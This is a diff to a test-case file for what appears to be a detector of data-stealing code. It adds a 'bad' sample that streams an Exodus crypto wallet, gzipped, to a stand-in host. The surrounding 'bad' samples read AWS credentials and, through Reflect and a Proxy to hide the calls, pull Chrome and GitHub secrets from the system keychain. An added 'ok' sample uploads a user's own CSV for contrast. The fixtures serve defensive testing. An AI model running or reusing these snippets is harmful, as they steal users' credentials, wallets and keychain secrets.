@@ -19,6 +19,10 @@ export default defineCases({
       code: "const fs = require('fs'); const os = require('os');\nconst place = [process.env.TIDES_FILE, os.homedir() + '/.aws/credentials'].find((one) => one && fs.existsSync(one));\nrequire('https').get('https://tides.example/map', { headers: { 'x-id': fs.readFileSync(place).toString('base64') } })",
     },
     {
+      name: 'wallets, packed on the way into a request that is listened to',
+      code: "const fs = require('fs'); const { pipeline } = require('stream/promises');\nconst into = (name) => require('https').request('https://tides.example/' + name, { method: 'PUT' }).on('response', (answer) => answer.resume());\npipeline(fs.createReadStream(require('os').homedir() + '/.config/Exodus/exodus.wallet'), require('zlib').createGzip(), into('a'))",
+    },
+    {
       name: 'what keychains hold, by way of Reflect and a Proxy',
       code: "const cp = require('child_process');\nconst tools = { darwin: { bin: 'security', args: (name) => ['find-generic-password', '-s', name, '-w'] }, linux: { bin: 'secret-tool', args: (name) => ['lookup', 'service', name] } };\nconst tool = Reflect.get(tools, process.platform);\nconst held = new Proxy({}, { get: (_, name) => Reflect.apply(cp.spawnSync, cp, [tool.bin, tool.args(name)]).stdout });\nconst all = ['Chrome Safe Storage', 'gh:github.com'].map((name) => held[name]);\nReflect.apply(fetch, undefined, [Reflect.construct(Request, ['https://tides.example', { method: 'POST', body: all.join() }])])",
     },
@@ -440,6 +444,10 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a file of the user, packed on the way into a request that is listened to',
+      code: "const fs = require('fs'); const { pipeline } = require('stream/promises');\nconst into = (name) => require('https').request('https://tides.example/' + name, { method: 'PUT' }).on('response', (answer) => answer.resume());\npipeline(fs.createReadStream(require('os').homedir() + '/tides/today.csv'), require('zlib').createGzip(), into('a'))",
+    },
     {
       name: 'the first file of its own settings that there is',
       code: "const fs = require('fs'); const os = require('os');\nconst place = [process.env.TIDES_FILE, os.homedir() + '/.config/tides.json'].find((one) => one && fs.existsSync(one));\nfetch('https://tides.example/map', { headers: { 'x-id': JSON.parse(fs.readFileSync(place, 'utf8')).id } })",
